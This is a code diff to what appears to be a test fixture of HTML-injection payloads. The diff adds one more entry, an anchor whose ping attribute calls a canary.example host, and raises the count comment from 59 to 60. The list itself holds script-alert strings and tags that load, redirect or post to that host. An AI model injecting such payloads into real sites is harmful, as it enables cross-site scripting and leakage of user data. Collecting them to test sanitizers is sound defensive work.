@@ -1,4 +1,4 @@
-/** What people would write to make a page do something: 59 ways. */
+/** What people would write to make a page do something: 60 ways. */
 export const CANARY = 'https://canary.example/x'
 export const PAYLOADS = [
   '<script>alert(1)</script>',
@@ -24,6 +24,7 @@ export const PAYLOADS = [
   '<link rel=stylesheet href=https://canary.example/x>',
   '<meta http-equiv=refresh content="0;url=https://canary.example/x">',
   '<base href=https://canary.example/>',
+  '<a href=//canary.example/x target=_blank ping=https://canary.example/x>x</a>',
   '<form action=https://canary.example/x><button>',
   '</script><script>alert(1)</script>',
   '</title><script>alert(1)</script>',
